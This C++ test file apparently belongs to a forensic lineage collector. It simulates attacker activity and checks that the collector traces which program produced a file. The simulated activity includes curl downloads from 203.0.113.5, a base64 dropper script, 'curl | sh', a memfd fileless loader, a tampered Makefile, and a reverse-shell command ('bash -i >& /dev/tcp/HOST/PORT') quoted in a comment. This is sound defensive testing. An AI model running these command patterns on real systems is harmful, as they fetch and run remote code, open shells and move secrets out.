// The program a process ran is one of its inputs (query-cli/LINEAGE.md, "The program"): a
// binary fetched and run names its download; the script a shell ran, for the commands it
// started, names who wrote the script, though the shell's other reads stay held back; an
// argv[1] that is data (not a script interpreter's) is no program.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstdio>
#include <cstring>

#include "lineage_world.h"
#include "script_rule.h"

namespace {

using namespace lineage_test;
using nlohmann::json;

bool has(const std::set<std::string>& e, const std::string& x) {
  return e.count(x) != 0;
}

// Paths outside the mount that do not exist here: the collector checks a program path it
// can stat against the exec's inode.
constexpr char kTool[] = "/lineage-test-nowhere/evil";
constexpr char kScript[] = "/lineage-test-nowhere/drop.sh";
constexpr char kData[] = "/lineage-test-nowhere/list.txt";

// `argv` (pid) writes `file` (inode `ino`) outside the mount and exits: a download, a
// decoded dropper.
void made_by(World& w, World::Proc parent, uint32_t pid, const std::vector<std::string>& argv,
             const std::string& file, uint64_t ino) {
  auto p = w.run(parent, pid, argv);
  w.write_outside(p, file, ino);
  w.exit(p);
}

TEST(Programs, ABinaryFetchedAndRunIsListedWithItsDownload) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "key.txt"}});
  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
  World::Proc evil = w.fork(sh, 201);
  w.exec_program(evil, kTool, {kTool, path("key.txt")}, 7001);
  w.read(201, 10);
  w.write_new(201, 12, "out");
  w.exit(evil);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  auto e = edges(r.graph);
  const std::string tool = std::string(kTool) + " " + path("key.txt");
  EXPECT_TRUE(has(e, "used(" + tool + ", " + kTool + ")")) << json(e).dump(1) << r.text;
  EXPECT_TRUE(
      has(e, "generated(" + std::string(kTool) + ", curl -o " + kTool + " http://203.0.113.5/x)"))
      << json(e).dump(1) << r.text;
  EXPECT_NE(r.text.find(std::string("program ") + kTool), std::string::npos) << r.text;
  // The data argument it read is a read, not its program.
  EXPECT_TRUE(has(e, "used(" + tool + ", key.txt)")) << json(e).dump(1) << r.text;
  EXPECT_EQ(r.text.find("program " + path("key.txt")), std::string::npos) << r.text;
  // Forward: everything the program wrote came of it.
  auto im = impact(*w.db, kTool);
  ASSERT_TRUE(im.found) << im.message;
  EXPECT_NE(im.text.find(path("out")), std::string::npos) << im.text;
  EXPECT_NE(im.text.find("run as the program of"), std::string::npos) << im.text;
}

// `evil sh -c 'cat key.txt > out'` (a multi-call binary re-exec'ing itself): both images
// ran the same program file; the answer lists it once.
TEST(Programs, AProgramTwoImagesRanIsListedOnce) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "key.txt"}});
  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
  World::Proc evil = w.fork(sh, 201);
  w.exec_program(evil, kTool, {kTool, "sh", "-c", "cat key.txt > out"}, 7001);
  w.exec_program(evil, kTool, {"cat", "key.txt"}, 7001);
  w.read(201, 10);
  w.write_new(201, 12, "out");
  w.exit(evil);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  const std::string line = std::string("program ") + kTool;
  const size_t first = r.text.find(line);
  ASSERT_NE(first, std::string::npos) << r.text;
  EXPECT_EQ(r.text.find(line, first + 1), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("curl -o"), std::string::npos) << "where it came from: " << r.text;
}

// A copy made by a program: its copy restriction keeps the program (it decided the copy).
TEST(Programs, AProgramThatOnlyCopiedStillListsItsProgram) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  w.col->copies_reported_since(0);
  auto sh = w.setup({});
  made_by(w, sh, 200, {"curl", "-o", kTool, "http://203.0.113.5/x"}, kTool, 7001);
  World::Proc evil = w.fork(sh, 201);
  w.exec_program(evil, kTool, {kTool}, 7001);
  w.read_outside(evil, "/lineage-test-nowhere/secret", 7002);
  w.write_outside(evil, "/lineage-test-nowhere/copy", 7003, O_WRONLY | O_CREAT | O_EXCL);
  w.copy(evil, 7003, 7002);
  w.exit(evil);
  w.cat_outside(sh, 300, "/lineage-test-nowhere/copy", 7003, 12, "out");
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  auto e = edges(r.graph);
  EXPECT_TRUE(has(e, "used(" + std::string(kTool) + ", " + kTool + ")"))
      << json(e).dump(1) << r.text;
  EXPECT_TRUE(has(e, "used(" + std::string(kTool) + ", /lineage-test-nowhere/secret)"))
      << json(e).dump(1) << r.text;
  EXPECT_EQ(r.text.find("not copied"), std::string::npos) << r.text;
}

// `sh /x/drop.sh` (written by bash) starts tar, which writes on the mount. tar's answer
// shows who ran it and from what script. Of the shell's reads of data, the one before an
// earlier command it started stays held back (named in the note); the one since is listed
// as what tar's command line may hold.
TEST(Programs, TheScriptThatStartedAWriterIsListedUnderIt) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "key.txt"}});
  made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
  World::Proc script = w.run(sh, 200, {"sh", kScript});
  w.read_outside(script, kScript, 7001);
  const std::string early = "/lineage-test-nowhere/early.txt";
  w.read_outside(script, early, 7003);  // before `date` ran: reaches tar only through argv
  w.exit(w.run(script, 199, {"date"}));
  w.read_outside(script, kData, 7002);  // since: may be in tar's command line
  w.filter(script, 201, {"tar", "cf", path("out"), path("key.txt")}, 10, 12, "out");
  w.exit(script);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  auto e = edges(r.graph);
  const std::string sh_cmd = std::string("sh ") + kScript;
  EXPECT_TRUE(has(e, "used(" + sh_cmd + ", " + kScript + ")")) << json(e).dump(1) << r.text;
  EXPECT_TRUE(
      has(e, "generated(" + std::string(kScript) + ", base64 -d /lineage-test-nowhere/drop.b64)"))
      << json(e).dump(1) << r.text;
  EXPECT_NE(r.text.find(std::string("program ") + kScript), std::string::npos) << r.text;
  EXPECT_NE(line_with(r.text, std::string("read ") + kData).find(kPassedOn), std::string::npos)
      << r.text;
  EXPECT_EQ(r.text.find("read " + early), std::string::npos) << r.text;
  EXPECT_NE(line_with(r.text, "started by " + sh_cmd).find("before that " + early),
            std::string::npos)
      << r.text;
}

// A fetched script (`sh drop.sh`) runs gzip, which stages the key in /tmp; another
// process ships the staged file. In the staged file's answer gzip is no writer of the file
// asked about, yet who ran it is shown, with the script and its download: the record saw
// the script made. A script that was there before the record is not listed for every
// command it ran (the answer stays short); --all lists it.
TEST(Programs, AFetchedScriptIsShownAsWhoRanAnyProcessInTheAnswer) {
  for (const bool fetched : {true, false}) {
    SCOPED_TRACE(fetched ? "fetched" : "there before the record");
    TempDir dir;
    World w(dir.path() + "/prov.db");
    auto sh = w.setup({{10, "key.txt"}});
    if (fetched)
      made_by(w, sh, 150, {"curl", "-o", kScript, "http://203.0.113.5/s"}, kScript, 7001);
    World::Proc script = w.run(sh, 200, {"sh", kScript});
    w.read_outside(script, kScript, 7001);
    World::Proc gz = w.run(script, 201, {"gzip", "-c", path("key.txt")});
    w.read(201, 10);
    w.write_outside(gz, "/lineage-test-nowhere/staged", 7003);
    w.close_outside(gz, 7003, /*last_write=*/true);
    w.exit(gz);
    w.exit(script);
    w.cat_outside(sh, 300, "/lineage-test-nowhere/staged", 7003, 12, "out");
    w.commit();
    auto r = why(*w.db, path("out"));
    ASSERT_TRUE(r.found) << r.message;
    EXPECT_TRUE(has(edges(r.graph), "used(gzip -c " + path("key.txt") + ", key.txt)")) << r.text;
    const std::string ran = std::string("started by sh ") + kScript;
    EXPECT_EQ(r.text.find(ran) != std::string::npos, fetched) << r.text;
    EXPECT_EQ(r.text.find(std::string("program ") + kScript) != std::string::npos, fetched)
        << r.text;
    EXPECT_EQ(r.text.find("curl -o") != std::string::npos, fetched) << r.text;
    auto all = why(*w.db, path("out"), 0, /*all=*/true);
    EXPECT_NE(all.text.find(ran), std::string::npos) << all.text;
  }
}

// `make` runs cc: the Makefile is make's program (a build recipe someone changed is where
// a tampered build came from), listed under make with who wrote it.
TEST(Programs, TheMakefileIsMakesProgram) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "main.c"}});
  constexpr char kMakefile[] = "/lineage-test-nowhere/src/Makefile";
  made_by(w, sh, 150, {"patch", "-p1", "-i", "/lineage-test-nowhere/evil.diff"}, kMakefile, 7001);
  World::Proc make = w.run(sh, 200, {"make", "-j2", "all"});
  w.read_outside(make, kMakefile, 7001);
  w.filter(make, 201, {"cc", "-o", path("prog"), path("main.c")}, 10, 12, "prog");
  w.exit(make);
  w.commit();
  auto r = why(*w.db, path("prog"));
  ASSERT_TRUE(r.found) << r.message;
  EXPECT_NE(r.text.find(std::string("program ") + kMakefile), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("written by patch -p1 -i /lineage-test-nowhere/evil.diff"),
            std::string::npos)
      << r.text;
}

// A script that ends in `exec tar ...`: tar runs in the script's process; the script is
// still the program that ran it.
TEST(Programs, AScriptThatExecsTheWriterIsListed) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "key.txt"}});
  made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
  World::Proc script = w.run(sh, 200, {"sh", kScript});
  w.read_outside(script, kScript, 7001);
  w.exec(script, {"tar", "cf", path("out"), path("key.txt")});
  w.read(200, 10);
  w.write_new(200, 12, "out");
  w.exit(script);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  EXPECT_NE(r.text.find(std::string("program ") + kScript), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("written by base64 -d /lineage-test-nowhere/drop.b64"), std::string::npos)
      << r.text;
}

// `tool /x/list.txt` forks sort: tool is no script interpreter, so list.txt is data it read
// (what sort's command line may hold), never called its program.
TEST(Programs, ADataArgumentOfAParentIsNoProgram) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "in"}});
  World::Proc tool = w.run(sh, 200, {"tool", kData});
  w.read_outside(tool, kData, 7002);
  w.filter(tool, 201, {"sort", path("in")}, 10, 12, "out");
  w.exit(tool);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  EXPECT_NE(line_with(r.text, std::string("read ") + kData).find(kPassedOn), std::string::npos)
      << r.text;
  EXPECT_EQ(r.text.find("─ program "), std::string::npos) << r.text;
}

// `curl URL | sh`: the shell runs what it reads from its stdin. tar's answer shows, under
// the shell that started it, that pipe as its program, with curl and what curl fetched.
// Given a command (`sh -c CMD`), the pipe is data the shell read; like the output of `ls`
// it read next, it may be in tar's command line: listed as such, never as a program.
TEST(Programs, AScriptPipedIntoAShellIsItsProgram) {
  for (bool command : {false, true}) {
    SCOPED_TRACE(command ? "sh -c CMD" : "sh");
    TempDir dir;
    World w(dir.path() + "/prov.db");
    auto sh = w.setup({{10, "key.txt"}});
    auto curl = w.run(sh, 200, {"curl", "http://203.0.113.5/install.sh"});
    w.read_outside(curl, "/lineage-test-nowhere/cache", 7005);  // what it fetched, say
    w.pipe_io(curl, 900, /*write=*/true);
    w.exit(curl);
    // `sh -c CMD` runs its argument: a pipe on its stdin is data it read.
    World::Proc shell = w.fork(sh, 201);
    w.exec(shell,
           command ? std::vector<std::string>{"sh", "-c", "tar cf out key.txt"}
                   : std::vector<std::string>{"sh"},
           {900, 0, 0});  // curl's pipe on its stdin
    w.pipe_io(shell, 900, /*write=*/false);
    // `while read h; do ...; done < <(ls)` in the script: another pipe on fd 0, data.
    auto ls = w.run(shell, 203, {"ls", "/lineage-test-nowhere"});
    w.read_outside(ls, "/lineage-test-nowhere/hosts", 7006);
    w.pipe_io(ls, 901, /*write=*/true);
    w.exit(ls);
    w.pipe_io(shell, 901, /*write=*/false);
    w.filter(shell, 202, {"tar", "cf", path("out"), path("key.txt")}, 10, 12, "out");
    w.exit(shell);
    w.commit();
    auto r = why(*w.db, path("out"));
    ASSERT_TRUE(r.found) << r.message;
    EXPECT_EQ(r.text.find("program pipe:[900]") != std::string::npos, !command) << r.text;
    EXPECT_EQ(line_with(r.text, "read pipe:[900]").find(kPassedOn) != std::string::npos, command)
        << r.text;
    EXPECT_NE(r.text.find("written by curl http://203.0.113.5/install.sh"), std::string::npos)
        << r.text;
    EXPECT_NE(r.text.find("/lineage-test-nowhere/cache"), std::string::npos) << r.text;
    EXPECT_EQ(r.text.find("program pipe:[901]"), std::string::npos) << r.text;
    EXPECT_NE(line_with(r.text, "read pipe:[901]").find(kPassedOn), std::string::npos) << r.text;
    EXPECT_NE(r.text.find("/lineage-test-nowhere/hosts"), std::string::npos) << r.text;
  }
}

// `sh < drop.sh` and a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): a shell given
// no script runs what it reads on its stdin, a file or a socket there (events.h v8: what fd
// 0 is at the exec). Given a command (`sh -c CMD < data`), what it reads there is data.
TEST(Programs, AFileOrSocketOnAShellsStdinIsItsProgram) {
  for (bool command : {false, true}) {
    for (bool socket : {false, true}) {
      SCOPED_TRACE(std::string(command ? "sh -c CMD" : "sh") + (socket ? " on a socket" : ""));
      TempDir dir;
      World w(dir.path() + "/prov.db");
      auto sh = w.setup({{10, "key.txt"}});
      made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
      if (!socket) w.open_outside(sh, kScript, 7001, O_RDONLY);  // the redirection `< drop.sh`
      World::Proc shell = w.fork(sh, 200);
      bento_exec_event e =
          w.exec_event(shell, "/usr/bin/sh",
                       command ? std::vector<std::string>{"sh", "-c", "tar cf out key.txt"}
                               : std::vector<std::string>{"sh"});
      e.stdin_mode = socket ? S_IFSOCK : S_IFREG;
      e.stdin_dev = socket ? 0x9 : 0x803;
      e.stdin_ino = socket ? 5555 : 7001;
      w.send_exec(e);
      if (socket) {
        w.tcp_recv_remote(shell, 5555, /*fd=*/0, 4444);
        w.tcp_recv_remote(shell, 5556, /*fd=*/3, 4445);  // another socket: data
      } else {
        w.file_io(shell, 7001, /*write=*/false, 0x803, /*fd=*/0);
      }
      w.filter(shell, 201, {"tar", "cf", path("out"), path("key.txt")}, 10, 12, "out");
      w.exit(shell);
      w.commit();
      auto r = why(*w.db, path("out"));
      ASSERT_TRUE(r.found) << r.message;
      if (socket) {
        EXPECT_EQ(r.text.find("program tcp 203.0.113.5:4444") != std::string::npos, !command)
            << r.text;
        // Another socket, or the one on stdin given a command: data it may pass on.
        EXPECT_NE(line_with(r.text, "from tcp 203.0.113.5:4445").find(kPassedOn), std::string::npos)
            << r.text;
        EXPECT_EQ(
            line_with(r.text, "from tcp 203.0.113.5:4444").find(kPassedOn) != std::string::npos,
            command)
            << r.text;
      } else {
        EXPECT_EQ(r.text.find(std::string("program ") + kScript) != std::string::npos, !command)
            << r.text;
        // Given a command, what the shell read on its stdin is data it may have passed on
        // to tar, never its program.
        EXPECT_NE(r.text.find("written by base64 -d /lineage-test-nowhere/drop.b64"),
                  std::string::npos)
            << r.text;
        if (command) {
          EXPECT_NE(line_with(r.text, std::string("read on stdin ") + kScript).find(kPassedOn),
                    std::string::npos)
              << r.text;
          // The shell that opened it for sh (`< drop.sh`) put none of its bytes in: not
          // named as held back either.
          EXPECT_EQ(r.text.find(std::string("not listed: ") + kScript), std::string::npos)
              << r.text;
        }
      }
    }
  }
}

// A fileless program: a loader writes a memfd and runs it by its descriptor (fexecve:
// "/proc/self/fd/3"). The collector must not resolve that name as its own descriptor: the
// probes send the memfd's name (events.h v8), and the answer lists it as the program with
// who wrote it. The same for `/proc/self/exe` (runc re-running itself as `init`).
TEST(Programs, AFilelessProgramIsNamedAndListedWithItsWriter) {
  TempDir dir;
  World w(dir.path() + "/prov.db");
  auto sh = w.setup({{10, "key.txt"}});
  World::Proc loader = w.run(sh, 200, {"loader", "http://203.0.113.5/x"});
  w.tcp_recv_remote(loader, 5555, 3, 443);                         // what it downloaded
  w.file_io(loader, 7010, /*write=*/true, /*dev=*/0x5, /*fd=*/4);  // into the memfd
  bento_exec_event e = w.exec_event(loader, "/proc/self/fd/4", {"kworker", path("key.txt")});
  e.exe_dev = 0x5;
  e.exe_ino = 7010;
  std::snprintf(e.exe_path, sizeof e.exe_path, "memfd:x");
  e.exe_path_len = 7;
  w.send_exec(e);
  w.read(200, 10);
  w.write_new(200, 12, "out");
  w.exit(loader);
  // `/proc/self/exe`: the program it runs is the probes' path, placed on this host.
  struct stat root {};
  ASSERT_EQ(stat("/", &root), 0);
  World::Proc again = w.fork(sh, 300);
  bento_exec_event s = w.exec_event(again, "/proc/self/exe", {"init"});
  s.exe_dev = root.st_dev;
  std::snprintf(s.exe_path, sizeof s.exe_path, "/lineage-test-nowhere/runc");
  s.exe_path_len = static_cast<uint32_t>(std::strlen(s.exe_path));
  w.send_exec(s);
  w.read(300, 10);
  w.write_new(300, 13, "out2");
  w.exit(again);
  w.commit();
  auto r = why(*w.db, path("out"));
  ASSERT_TRUE(r.found) << r.message;
  EXPECT_NE(r.text.find("[exe memfd:x]"), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("program memfd:x"), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("written by loader http://203.0.113.5/x"), std::string::npos) << r.text;
  EXPECT_NE(r.text.find("tcp 203.0.113.5:443"), std::string::npos) << r.text;
  auto r2 = why(*w.db, path("out2"));
  ASSERT_TRUE(r2.found) << r2.message;
  EXPECT_NE(r2.text.find("[exe /lineage-test-nowhere/runc]"), std::string::npos) << r2.text;
}

TEST(Programs, TheScriptRuleKnowsInterpretersScriptsAndCommands) {
  using bento::collector::ProgramInput;
  auto input = [](std::string_view argv0, std::string_view exe,
                  std::vector<std::string_view> args) {
    const ProgramInput in = bento::collector::program_input(argv0, exe, args);
    return in.kind == ProgramInput::kNone    ? std::string("none")
           : in.kind == ProgramInput::kStdin ? std::string("stdin")
                                             : "script " + in.script;
  };
  EXPECT_EQ(input("sh", "/usr/bin/sh", {"/tmp/drop.sh", "a"}), "script /tmp/drop.sh");
  EXPECT_EQ(input("python3.11", "/usr/bin/python3.11", {"./job.py"}), "script job.py");
  EXPECT_EQ(input("/bin/sh", "/work/run.sh", {"./run.sh"}), "script run.sh");  // #!
  EXPECT_EQ(input("bash", "/usr/bin/bash", {"-x", "job.sh"}), "script job.sh");
  EXPECT_EQ(input("bash", "/usr/bin/bash", {"-o", "pipefail", "job.sh"}), "script job.sh");
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-W", "ignore", "job.py"}), "script job.py");
  EXPECT_EQ(input("cat", "/usr/bin/cat", {"key.txt"}), "none");
  EXPECT_EQ(input("tar", "/usr/bin/tar", {}), "none");
  EXPECT_EQ(input("bash", "/usr/bin/bash", {"-c", "make"}), "none");
  EXPECT_EQ(input("sh", "/usr/bin/sh", {"-ec", "make"}), "none");
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-m", "http.server"}), "none");
  EXPECT_EQ(input("perl", "/usr/bin/perl", {"-e", "print 1"}), "none");
  EXPECT_EQ(input("sh", "/usr/bin/sh", {}), "stdin");
  EXPECT_EQ(input("bash", "/usr/bin/bash", {"-s", "arg"}), "stdin");
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-"}), "stdin");
  EXPECT_EQ(input("bash", "/usr/bin/bash", {"--norc", "-x"}), "stdin");
  // Each family's own options: python's -s and -I take no value and are no stdin.
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-s", "job.py"}), "script job.py");
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-I", "job.py"}), "script job.py");
  EXPECT_EQ(input("python3", "/usr/bin/python3", {"-Es", "job.py"}), "script job.py");
  EXPECT_EQ(input("ruby", "/usr/bin/ruby", {"-rjson", "x.rb"}), "script x.rb");
  EXPECT_EQ(input("node", "/usr/bin/node", {"-r", "dotenv/config", "app.js"}), "script app.js");
  EXPECT_EQ(input("php", "/usr/bin/php", {"-f", "x.php"}), "script x.php");
  // make runs its makefile.
  EXPECT_EQ(input("make", "/usr/bin/make", {}), "script Makefile");
  EXPECT_EQ(input("make", "/usr/bin/make", {"-j", "4", "all"}), "script Makefile");
  EXPECT_EQ(input("make", "/usr/bin/make", {"-C", "src", "all"}), "script Makefile");
  EXPECT_EQ(input("make", "/usr/bin/make", {"-f", "build.mk", "all"}), "script build.mk");
  EXPECT_EQ(input("gmake", "/usr/bin/gmake", {"--file=build.mk"}), "script build.mk");
  EXPECT_EQ(input("make", "/usr/bin/make", {"-fbuild.mk"}), "script build.mk");
  // A `#!/usr/bin/python3 -s` script: the kernel passes the option, then the script.
  EXPECT_EQ(input("/usr/bin/python3", "/opt/app/run", {"-s", "/opt/app/run"}),
            "script /opt/app/run");
}

}  // namespace
